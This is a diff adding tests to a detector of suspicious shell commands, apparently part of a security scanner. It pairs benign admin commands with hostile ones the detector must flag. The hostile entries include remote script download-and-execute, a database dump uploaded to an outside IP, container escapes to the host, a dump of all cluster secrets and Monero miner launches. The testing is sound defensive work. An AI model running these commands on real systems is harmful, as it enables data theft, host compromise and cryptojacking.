@@ -242,3 +242,48 @@ test('a mention is told as a mention: it stands among the signs, and is no findi
   expect(commands[0]?.signs[0]).toMatchObject({ strength: 1, title: expect.stringMatching(/^mentions/) as string });
   expect(Object.keys(commands[0]?.signs[0] ?? {})).not.toContain('is_mention');
 });
+
+test.each([
+  String.raw`curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg`,
+  String.raw`wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo apt-key add -`,
+  String.raw`/bin/sh -c 'echo BECOME-SUCCESS-abc; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.1-2-3/AnsiballZ_setup.py && sleep 0'`,
+  String.raw`/bin/sh -c '( umask 77 && mkdir -p /home/deploy/.ansible/tmp/ansible-tmp-1.1-2-3 ) && sleep 0'`,
+  'iptables-save > /etc/iptables/rules.v4',
+  'ip6tables-save -c > /etc/iptables/rules.v6',
+  'chmod 600 /root/.ssh/authorized_keys',
+  'mysqldump --single-transaction --all-databases -u backup | gzip > /var/backups/mysql.sql.gz',
+  'openssl s_client -connect mail.example.com:465 -brief',
+  `python3 -c "import json,sys; print(json.load(sys.stdin)['version'])"`,
+  'docker run -d --net=host --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host',
+  'docker run -d -v /var/run/docker.sock:/var/run/docker.sock:ro -v /proc/:/host/proc/:ro gcr.io/datadoghq/agent:7',
+  'kubectl create secret generic db --from-env-file=db.env -n prod',
+])('%s is no finding of weight', (command) => {
+  const { findings, verdict } = checkCommands([command], literalContent());
+  expect(findings.filter(({ severity }) => severity !== 'info')).toEqual([]);
+  expect(verdict).not.toBe('suspicious');
+});
+
+test.each([
+  ['wget -qO- http://203.0.113.9/x.sh | sh', 'low'],
+  ['wget -q http://203.0.113.9/x -O /tmp/x', 'medium'],
+  ['chmod 777 /tmp/b', 'low'],
+  ['mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/', 'low'],
+  ['iptables -F; iptables-save > /etc/iptables/rules.v4', 'medium'],
+  ['docker run -v /:/mnt --rm -it alpine chroot /mnt sh', 'high'],
+  ['docker run -v /:/mnt:ro --privileged --pid=host -it alpine nsenter -t 1 -m sh', 'high'],
+  ['type evil.exe > C:\\a\\file.txt:evil.exe', 'low'],
+  [`python3 -c "import os; os.system('id')"`, 'low'],
+  ['kubectl get secrets -A -o yaml', 'low'],
+  ['./x --url pool.supportxmr.com:443 --user 44Aff --donate-level 1', 'medium'],
+  ['/opt/sys -o xmr.2miners.com:2222 -u 4Aff', 'medium'],
+  ['nohup /dev/shm/.a >/dev/null 2>&1 &', 'medium'],
+  ['cd /tmp; /tmp/.X11-unix/.rsync/c/tsm', 'low'],
+] as const)('%s is still one, of at least %s', (command, least) => {
+  const { findings } = checkCommands([command], literalContent());
+  expect(Math.max(-1, ...findings.map(({ severity }) => rank(severity)))).toBeGreaterThanOrEqual(rank(least));
+});
+
+test('whoever reads about a mining pool mines nothing', () => {
+  for (const command of ['grep -r minexmr.com /var/log', 'echo "block pool.minexmr.com" >> notes.txt'])
+    expect(checkCommands([command], literalContent()).verdict, command).not.toBe('suspicious');
+});
